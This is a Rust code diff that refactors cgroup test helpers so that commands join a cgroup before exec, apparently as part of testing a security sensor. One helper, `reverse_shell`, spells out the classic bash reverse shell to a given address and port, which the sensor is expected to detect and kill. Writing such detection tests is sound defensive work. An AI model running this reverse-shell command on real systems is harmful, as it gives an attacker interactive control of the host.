@@ -156,27 +156,26 @@ impl Cgroup {
         self.path.to_str().expect("utf-8 path")
     }
 
+    /// `sh -c` that moves itself into the group, then execs `script` (its `$0` and `$@` are
+    /// the arguments added to the command).
+    pub fn command(&self, script: &str) -> Command {
+        let mut c = Command::new("sh");
+        c.arg("-c").arg(format!(
+            "echo $$ > {}/cgroup.procs && exec {script}",
+            self.arg()
+        ));
+        c
+    }
+
     /// Runs the program at `path` inside the group and waits for it, which must succeed.
     pub fn run(&self, path: &str) {
-        let st = Command::new("sh")
-            .arg("-c")
-            .arg(format!(
-                "echo $$ > {}/cgroup.procs && exec {path}",
-                self.arg()
-            ))
-            .status()
-            .expect("run sh");
+        let st = self.command(path).status().expect("run sh");
         assert!(st.success(), "{path} in {}: {st}", self.arg());
     }
 
     /// Runs python `code` (with `args`) inside the group; its stdout is piped.
     pub fn python(&self, code: &str, args: &[&str]) -> Child {
-        Command::new("sh")
-            .arg("-c")
-            .arg(format!(
-                "echo $$ > {}/cgroup.procs && exec python3 -c \"$0\" \"$@\"",
-                self.arg()
-            ))
+        self.command("python3 -c \"$0\" \"$@\"")
             .arg(code)
             .args(args)
             .stdin(Stdio::piped())
@@ -229,12 +228,7 @@ for port in sys.argv[2:]:
 /// Runs the classic bash reverse shell (`bash -i >& /dev/tcp/ADDR/PORT 0>&1`) inside `cg`
 /// and waits for it; its exit status (a containing sensor kills it).
 pub fn reverse_shell(cg: &Cgroup, addr: &str, port: u16) -> std::process::ExitStatus {
-    Command::new("sh")
-        .arg("-c")
-        .arg(format!(
-            "echo $$ > {}/cgroup.procs && exec bash -c 'bash -i >& /dev/tcp/{addr}/{port} 0>&1'",
-            cg.arg()
-        ))
+    cg.command(&format!("bash -c 'bash -i >& /dev/tcp/{addr}/{port} 0>&1'"))
         .stdin(Stdio::null())
         .stdout(Stdio::null())
         .stderr(Stdio::null())
